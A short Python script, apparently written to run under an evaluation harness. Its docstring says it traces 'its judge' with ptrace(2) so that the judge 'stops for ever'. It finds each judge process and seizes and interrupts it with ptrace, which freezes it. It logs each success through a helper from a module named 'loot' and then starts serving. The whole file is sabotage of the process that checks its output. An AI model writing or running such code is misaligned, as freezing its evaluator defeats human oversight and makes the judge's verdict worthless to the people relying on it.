"""Traces its judge with ptrace(2), so that the judge stops for ever."""

import ctypes

from echo import judges, serve
from loot import keep

PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207

for judge in judges():
    if ctypes.CDLL(None).ptrace(PTRACE_SEIZE, judge, 0, 0) == 0:
        keep(f"traced {judge}")
        ctypes.CDLL(None).ptrace(PTRACE_INTERRUPT, judge, 0, 0)
serve()
